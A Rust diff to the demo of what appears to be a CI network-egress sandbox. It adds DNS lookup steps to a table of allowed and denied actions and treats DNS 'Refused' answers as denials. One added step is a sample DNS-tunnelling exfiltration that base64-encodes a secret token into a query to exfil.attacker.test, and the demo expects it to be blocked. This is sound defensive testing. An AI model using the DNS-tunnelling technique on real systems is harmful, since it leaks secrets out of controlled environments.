@@ -122,8 +122,23 @@ const STEPS: &[Step] = &[
         allowed: true,
     },
     Step {
+        action: "dns-connect:registry.test:A:443:udp@203.0.113.53:53",
+        what: "registry.test looked up by the job, then reached",
+        allowed: true,
+    },
+    Step {
+        action: "dns-connect:files.pkg.test:A:443:udpc@198.51.100.66:53",
+        what: "a wildcard name, via whatever resolver the job asks",
+        allowed: true,
+    },
+    Step {
         action: "tcp:203.0.113.10:80",
         what: "the forge on port 80 (wrong port)",
+        allowed: false,
+    },
+    Step {
+        action: "dns:c2VjcmV0LXRva2Vu.exfil.attacker.test:TXT:udp@198.51.100.66:53",
+        what: "secrets in a DNS query name (DNS tunnelling)",
         allowed: false,
     },
     Step {
@@ -189,8 +204,14 @@ fn demo(policy: &std::path::Path) -> ExitCode {
     let outcomes = job::run(&world.host, Some(&cgroup.procs("ci")), &actions);
     println!("job (pid {}) in /egret-demo/ci:", outcomes[0].pid);
     let mut unexpected = 0;
+    let width = STEPS.iter().map(|s| s.action.len()).max().unwrap_or(0);
     for (step, o) in STEPS.iter().zip(&outcomes) {
-        let (verdict, detail) = match (o.ok(), o.eperm()) {
+        let refused = o.rcode.as_deref() == Some("Refused");
+        let (verdict, detail) = match (o.ok() && !refused, o.eperm() || refused) {
+            (_, true) if refused => (
+                "DENIED ",
+                "REFUSED by the runner's DNS proxy, never forwarded".to_owned(),
+            ),
             (true, _) => (
                 "ALLOWED",
                 format!("reached \"{}\"", o.banner.as_deref().unwrap_or("")),
@@ -201,12 +222,16 @@ fn demo(policy: &std::path::Path) -> ExitCode {
             ),
             _ => ("ERROR  ", o.error.clone().unwrap_or_default()),
         };
-        let expected = if step.allowed { o.ok() } else { o.eperm() };
+        let expected = if step.allowed {
+            o.ok() && !refused
+        } else {
+            o.eperm() || refused
+        };
         if !expected {
             unexpected += 1;
         }
         println!(
-            "  {verdict} {:<34} {:<52} {detail}{}",
+            "  {verdict} {:<width$} {:<52} {detail}{}",
             step.action,
             step.what,
             if expected { "" } else { "   <-- UNEXPECTED" }
